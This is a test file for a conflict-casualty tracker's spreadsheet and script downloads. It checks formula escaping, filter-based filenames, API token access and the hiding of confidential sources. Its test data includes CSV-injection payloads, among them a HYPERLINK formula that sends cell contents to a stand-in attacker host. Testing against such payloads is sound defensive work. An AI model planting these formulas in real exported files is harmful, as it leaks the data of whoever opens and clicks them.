"""The downloads as Excel and scripts meet them: formulas kept inert, a byte order mark, names that say
what was filtered, real dates and filters in the workbook, and the API token instead of a login."""

import csv
import io
from datetime import date

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from rest_framework.authtoken.models import Token

from tests.accounts import make_confidant, make_reader, make_user
from tests.factories import make_claim, make_event, make_party, make_source, seeded_subgroup
from tests.helpers import claim_row, csv_bytes
from tracker.ingest.formulas import formula_escaped, formula_unescaped
from tracker.ingest.importer import file_import
from tracker.models import Assessment, Claim, Event, Party, Source
from tracker.models.assessments import organisation

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-5 disputed", "@SUM(A1)", "'=quoted"]


def table(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def spreadsheet_would_run(cell: str) -> bool:
    """Whether a spreadsheet program would take this CSV cell as a formula (a plain number is a number)."""
    try:
        float(cell)
        return False
    except ValueError:
        return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    "text", [*FORMULAS, "\tindented", "\rreturn", "", "plain", "'", "''=x", "-33.5", "12", "-", "a=b"]
)
def test_escaping_a_cell_is_undone_exactly(text):
    assert formula_unescaped(formula_escaped(text)) == text
    assert not spreadsheet_would_run(formula_escaped(text))


@pytest.mark.parametrize("text", ["-33.5", "12", "0", "+7"])
def test_a_number_is_written_as_it_is(text):
    assert formula_escaped(text) == text


@pytest.fixture
def confidant(client):
    client.force_login(make_confidant())
    return client


def formula_event():
    event = make_event(ref="SYR-F-1", title=FORMULAS[0], location_name="@Raqqa", country="SY",
                       latitude="-33.500000", longitude="-70.250000")  # fmt: skip
    for number, text in enumerate(FORMULAS):
        make_claim(event, make_party(name=f"{text} party {number}"), count=number, notes=text, wording=f"{number}",
                   source=make_source(title=text))  # fmt: skip
    return event


def test_no_cell_of_a_csv_download_runs_as_a_formula(confidant):
    formula_event()
    for url in (reverse("event_claims_download", args=["csv"]), reverse("event_download", args=["csv"])):
        rows = table(confidant.get(url, {"hxl": "1"}).content)
        cells = [cell for row in rows for cell in row.values()]
        assert cells and not [cell for cell in cells if spreadsheet_would_run(cell)]
    claims = table(confidant.get(reverse("event_claims_download", args=["csv"])).content)
    assert {row["latitude"] for row in claims} == {"-33.500000"}  # numbers stay numbers
    assert {row["best"] for row in claims} == {str(number) for number in range(len(FORMULAS))}


def test_a_claims_download_imports_back_exactly(confidant):
    formula_event()
    before = sorted(Claim.objects.values_list("party__name", "notes", "source__title", "event__title"))
    download = confidant.get(reverse("event_claims_download", args=["csv"])).content
    assert download.startswith(b"\xef\xbb\xbf")
    Claim.objects.all().delete(), Event.objects.all().delete(), Source.objects.all().delete()
    Party.objects.all().delete()

    report = file_import(file=io.BytesIO(download), name="claims.csv")

    assert report.ok, report.errors
    assert sorted(Claim.objects.values_list("party__name", "notes", "source__title", "event__title")) == before
    assert confidant.get(reverse("event_claims_download", args=["csv"])).content == download


def test_the_export_commands_escape_formulas_too(tmp_path):
    formula_event()
    from django.core.management import call_command

    for command in ("export_claims", "export_discrepancies"):
        stdout = io.StringIO()
        call_command(command, "--format", "csv", stdout=stdout)
        cells = [cell for row in csv.reader(io.StringIO(stdout.getvalue())) for cell in row]
        assert FORMULAS[0] not in cells and "'" + FORMULAS[0] in cells


def test_a_hand_made_file_keeps_a_leading_quote_before_plain_text():
    report = file_import(file=io.BytesIO(csv_bytes([claim_row(notes="'Quoted' in the press")])), name="claims.csv")
    assert report.ok, report.errors
    assert Claim.objects.get().notes == "'Quoted' in the press"


@pytest.mark.parametrize(
    "name, params, filename",
    [
        ("event_download", {}, "events-all.csv"),
        ("event_download", {"country": "SY", "level": "major", "date_from": "2017-01-01", "date_to": "2017-12-31"},
         "events-syria-major-2017.csv"),
        ("event_download", {"country": "SY", "level": "major", "hxl": "1"}, "events-syria-major-hxl.csv"),
        ("event_download", {"level": ["minor", "denial"], "date_from": "2017-03-01"},
         "events-denial-minor-from-2017-03-01.json"),
        ("event_download", {"min_ratio": "1.5", "q": "Hajin market", "classification_dispute": "true"},
         "events-disputed-ratio-1.5-search-hajin-market.xlsx"),
        ("event_download", {"grade": "fair", "suggested": "weak", "assessment": "differs", "review": "entered"},
         "events-grade-fair-suggested-weak-assessment-differs-entered.csv"),
        ("event_claims_download", {"country": "IQ", "category": "civilian", "event_type": "airstrike"},
         "claims-iraq-airstrike-civilian.csv"),
        ("event_download", {"country": "SY", "outcome": "injured", "level": "major"}, "events-syria-injured-major.csv"),
        ("event_download", {"level": "denial", "injured_level": ["major", "minor"], "inconsistent": "false"},
         "events-denial-injured-major-injured-minor-consistent.csv"),
        ("event_claims_download", {"outcome": "killed", "inconsistent": "true"}, "claims-inconsistent.xlsx"),
    ],
)  # fmt: skip
def test_a_download_is_named_after_its_filters(reader, name, params, filename):
    response = reader.get(reverse(name, args=[filename.rsplit(".", 1)[1]]), params)
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'


def download_name_of(response) -> str:
    return response["Content-Disposition"].split('filename="')[1].rstrip('"')


def test_a_download_name_is_bounded(reader):
    party = make_party(name="Syrian Observatory for Human Rights and Associated Local Coordination Committees " * 3)
    params = {"country": "SY", "level": ["denial", "major", "minor", "single", "agree"], "party": party.pk,
              "event_type": "airstrike", "category": "combatant", "date_from": "2016-02-03", "date_to": "2019-11-30",
              "q": "market"}  # fmt: skip
    filename = download_name_of(reader.get(reverse("event_download", args=["csv"]), {**params, "hxl": "1"}))
    assert filename.startswith("events-syria-agree-denial-major-minor-single-airstrike-combatant-party-syrian")
    assert filename.endswith("-hxl.csv") and len(filename) <= 130


def test_two_searches_download_under_two_names(reader):
    """Each search named "search" overwrote the last one's download; an Arabic search is told apart too."""
    names = {
        download_name_of(reader.get(reverse("event_download", args=["csv"]), {"q": words}))
        for words in ("Deir ez-Zor", "Hajin", "دير الزور", "الباغوز")
    }
    assert len(names) == 4 and "events-search-deir-ez-zor.csv" in names
    assert all(name.isascii() for name in names)


def test_a_download_starts_with_a_byte_order_mark_for_excel(reader):
    make_claim(count=3)
    for name in ("event_download", "event_claims_download"):
        assert reader.get(reverse(name, args=["csv"])).content.startswith("\ufeff".encode())
        assert not reader.get(reverse(name, args=["xlsx"])).content.startswith("\ufeff".encode())


def test_a_script_downloads_with_the_api_token(client):
    secret = make_source(title="Informant in Hajin", confidential=True)
    make_claim(make_event(ref="SYR-T-1"), source=secret, notes="told by Abu Khalid")
    token = Token.objects.create(user=make_reader())
    authorization = {"HTTP_AUTHORIZATION": f"Token {token.key}"}
    for name in ("event_download", "event_claims_download"):
        for format in ("csv", "xlsx", "json"):
            if name == "event_claims_download" and format == "json":
                continue
            response = client.get(reverse(name, args=[format]), **authorization)
            assert response.status_code == 200, (name, format)
    claims = table(client.get(reverse("event_claims_download", args=["csv"]), **authorization).content)
    assert [(row["source_title"], row["notes"]) for row in claims] == [("Confidential source", "")]


def test_a_confidant_token_sees_what_the_confidant_sees(client):
    secret = make_source(title="Informant in Hajin", confidential=True)
    make_claim(make_event(ref="SYR-T-1"), source=secret, notes="told by Abu Khalid")
    token = Token.objects.create(user=make_confidant())
    response = client.get(reverse("event_claims_download", args=["csv"]), HTTP_AUTHORIZATION=f"Token {token.key}")
    assert [(row["source_title"], row["notes"]) for row in table(response.content)] == [
        ("Informant in Hajin", "told by Abu Khalid")
    ]


@pytest.mark.parametrize("header", ["Token not-a-real-key", "Token", "token abc def"])
def test_a_script_with_a_bad_token_gets_401_not_a_login_page(client, header):
    make_claim(count=3)
    response = client.get(reverse("event_download", args=["csv"]), HTTP_AUTHORIZATION=header)
    assert response.status_code == 401
    assert response["WWW-Authenticate"] == "Token"
    assert b"ref," not in response.content


def test_a_browser_without_a_session_is_still_sent_to_the_login_page(client):
    response = client.get(reverse("event_download", args=["csv"]))
    assert response.status_code == 302 and response["Location"].startswith(reverse("login"))


def test_a_token_of_a_user_without_the_viewer_role_gets_403(client):
    token = Token.objects.create(user=make_user("outsider"))
    response = client.get(reverse("event_download", args=["csv"]), HTTP_AUTHORIZATION=f"Token {token.key}")
    assert response.status_code == 403


def test_a_token_of_an_inactive_user_gets_401(client):
    token = Token.objects.create(user=make_reader(is_active=False))
    response = client.get(reverse("event_download", args=["csv"]), HTTP_AUTHORIZATION=f"Token {token.key}")
    assert response.status_code == 401


def workbook_of(response):
    return load_workbook(io.BytesIO(response.content))


@pytest.mark.parametrize("hxl", [False, True])
def test_the_events_workbook_has_date_cells_a_filter_row_and_a_frozen_header(reader, hxl):
    make_claim(make_event(ref="SYR-X-1", start_date=date(2017, 9, 1), date_precision="month"), count=4)
    make_claim(make_event(ref="SYR-X-2", start_date=date(2018, 3, 14)), count=2)
    sheet = workbook_of(reader.get(reverse("event_download", args=["xlsx"]), {"hxl": "1"} if hxl else {})).active
    header_rows = 2 if hxl else 1
    header = [cell.value for cell in sheet[1]]
    dates = [row[header.index("date")] for row in sheet.iter_rows(min_row=header_rows + 1)]
    assert [cell.value.date() for cell in dates] == [date(2018, 3, 14), date(2017, 9, 1)]
    assert all(cell.is_date and cell.number_format == "yyyy-mm-dd" for cell in dates)
    assert sheet.freeze_panes == f"A{header_rows + 1}"
    assert sheet.auto_filter.ref == f"A{header_rows}:{get_column_letter(len(header))}{header_rows + 2}"


def test_the_claims_workbook_has_date_cells_a_filter_row_and_a_frozen_header(reader):
    make_claim(make_event(ref="SYR-X-1", start_date=date(2017, 9, 1)), count=4, claimed_on=date(2017, 9, 3),
               notes='=HYPERLINK("http://evil.example")')  # fmt: skip
    sheet = workbook_of(reader.get(reverse("event_claims_download", args=["xlsx"]))).active
    header = [cell.value for cell in sheet[1]]
    row = dict(zip(header, sheet[2], strict=True))
    assert row["event_date"].is_date and row["claimed_on"].number_format == "yyyy-mm-dd"
    assert row["best"].data_type == "n" and row["best"].value == 4
    assert row["notes"].data_type == "s" and row["notes"].value == '=HYPERLINK("http://evil.example")'
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:{get_column_letter(len(header))}2"
    assert row["retracted"].value is False and row["retracted"].data_type == "b"  # a true/false cell, not "false"


@pytest.mark.parametrize("name", ["event_download", "event_claims_download"])
def test_a_workbooks_columns_are_as_wide_as_what_they_hold(reader, name):
    make_claim(make_event(ref="SYR-X-1", title="Airstrike on the market of Al-Bukamal during the evening prayer"))
    sheet = workbook_of(reader.get(reverse(name, args=["xlsx"]))).active
    header = [cell.value for cell in sheet[1]]
    widths = {column: sheet.column_dimensions[get_column_letter(index)].width for index, column in
              enumerate(header, start=1)}  # fmt: skip
    title = "title" if name == "event_download" else "event_title"
    assert widths[title] > widths["country"] >= 8
    assert all(8 <= width <= 60 for width in widths.values())


def test_the_events_download_says_where_what_and_links_back(reader):
    event = make_event(ref="SYR-X/1", admin_region="Deir ez-Zor", latitude="35.336100", longitude="40.139200",
                       event_type="airstrike", description="A strike on the market.")  # fmt: skip
    make_claim(event, count=4)
    row = table(reader.get(reverse("event_download", args=["csv"])).content)[0]
    assert (row["admin1"], row["latitude"], row["longitude"]) == ("Deir ez-Zor", "35.3361", "40.1392")
    assert (row["event_type"], row["description"]) == ("airstrike", "A strike on the market.")
    assert row["url"] == "http://testserver/events/SYR-X/1/"
    assert reader.get(row["url"]).status_code == 200
    assert "grade" in row and "suggested_grade" in row


def test_every_download_says_how_precise_an_event_date_is(reader):
    make_claim(make_event(ref="SYR-M-1", start_date=date(2017, 9, 1), date_precision="month"), count=4)
    make_claim(make_event(ref="SYR-Y-1", start_date=date(2016, 1, 1), date_precision="year"), count=4)
    precisions = {"SYR-M-1": "month", "SYR-Y-1": "year"}
    events = table(reader.get(reverse("event_download", args=["csv"]), {"hxl": "1"}).content)
    assert events[0]["date_precision"] == "#date+precision"
    assert {row["ref"]: row["date_precision"] for row in events[1:]} == precisions
    records = reader.get(reverse("event_download", args=["json"])).json()
    assert {record["ref"]: (record["date"], record["date_precision"]) for record in records} == {
        "SYR-M-1": ("2017-09-01", "month"), "SYR-Y-1": ("2016-01-01", "year"),
    }  # fmt: skip
    sheet = workbook_of(reader.get(reverse("event_download", args=["xlsx"]))).active
    header = [cell.value for cell in sheet[1]]
    rows = sheet.iter_rows(min_row=2, values_only=True)
    assert {row[header.index("ref")]: row[header.index("date_precision")] for row in rows} == precisions
    claims = table(reader.get(reverse("event_claims_download", args=["csv"])).content)
    assert {row["event_ref"]: row["date_precision"] for row in claims} == precisions


def test_a_claims_download_says_what_befell_those_counted_and_of_whom(reader):
    event = make_event(ref="SYR-I-1")
    make_claim(event, count=12)
    make_claim(event, count=30, outcome="injured", subgroup=seeded_subgroup("children"))
    make_claim(make_event(ref="SYR-K-1"), count=4)

    said = {("SYR-I-1", "killed", ""), ("SYR-I-1", "injured", "children"), ("SYR-K-1", "killed", "")}
    claims = table(reader.get(reverse("event_claims_download", args=["csv"])).content)
    assert {(row["event_ref"], row["outcome"], row["subgroup"]) for row in claims} == said
    sheet = workbook_of(reader.get(reverse("event_claims_download", args=["xlsx"]))).active
    header = [cell.value for cell in sheet[1]]
    columns = [header.index(name) for name in ("event_ref", "outcome", "subgroup")]
    rows = sheet.iter_rows(min_row=2, values_only=True)
    assert {tuple(row[index] or "" for index in columns) for row in rows} == said


def test_the_downloads_take_the_outcome_filter(reader):
    make_claim(make_event(ref="SYR-I-1"), count=30, outcome="injured")
    make_claim(make_event(ref="SYR-K-1"), count=4)
    for name, column in (("event_download", "ref"), ("event_claims_download", "event_ref")):
        rows = table(reader.get(reverse(name, args=["csv"]), {"outcome": "injured"}).content)
        assert [row[column] for row in rows] == ["SYR-I-1"]
    response = reader.get(reverse("event_download", args=["csv"]), {"outcome": "injured", "ordering": "-ratio"})
    assert response.status_code == 400 and "Only the counts of the killed have a ratio" in response.content.decode()


def test_a_party_named_in_arabic_is_named_by_its_id(reader):
    party = make_party(name="المرصد السوري")
    response = reader.get(reverse("event_download", args=["csv"]), {"party": party.pk, "min_ratio": "2.50"})
    assert response["Content-Disposition"] == f'attachment; filename="events-party-{party.pk}-ratio-2.5.csv"'


def assessed(ref: str, country: str, grade: str, **fields) -> Assessment:
    event = make_event(ref=ref, country=country)
    fields = {"rationale": "Read against the monitor.", "assessed_on": date(2018, 2, 1), **fields}
    return Assessment.objects.create(event=event, assessor=organisation(), grade=grade, method="range", **fields)


def test_the_assessments_download_holds_the_filtered_events_assessments_as_export_assessments_writes_them(reader):
    assessed("SYR-A-1", "SY", "weak", civilian_low=10, civilian_high=12)
    assessed("IRQ-A-1", "IQ", "fair", rationale="=HYPERLINK(1)")
    response = reader.get(reverse("event_assessments_download", args=["csv"]), {"country": "SY"})
    assert response["Content-Disposition"] == 'attachment; filename="assessments-syria.csv"'
    assert response.content.startswith("\ufeff".encode())
    rows = table(response.content)
    assert [(row["event_ref"], row["grade"], row["civilian_low"], row["civilian_high"]) for row in rows] == [
        ("SYR-A-1", "weak", "10", "12")
    ]
    stdout = io.StringIO()
    call_command("export_assessments", stdout=stdout)
    everything = table(reader.get(reverse("event_assessments_download", args=["csv"])).content)
    assert everything == table(stdout.getvalue().encode()) and len(everything) == 2
    assert not [cell for row in everything for cell in row.values() if spreadsheet_would_run(cell)]


def test_the_assessments_workbook_holds_figures_as_numbers_and_the_date_as_a_date(reader):
    assessed("SYR-A-1", "SY", "weak", civilian_low=10)
    sheet = workbook_of(reader.get(reverse("event_assessments_download", args=["xlsx"]))).active
    header = [cell.value for cell in sheet[1]]
    row = dict(zip(header, [cell.value for cell in sheet[2]], strict=True))
    assert (row["event_ref"], row["civilian_low"], row["civilian_high"]) == ("SYR-A-1", 10, None)
    assert row["assessed_on"].date() == date(2018, 2, 1)


def test_the_event_list_links_the_assessments_download_with_its_filters(reader):
    page = reader.get("/events/", {"country": "SY", "page": "1"}).content.decode()
    assert 'href="/events/assessments.csv?country=SY"' in page
    assert 'href="/events/assessments.xlsx?country=SY"' in page
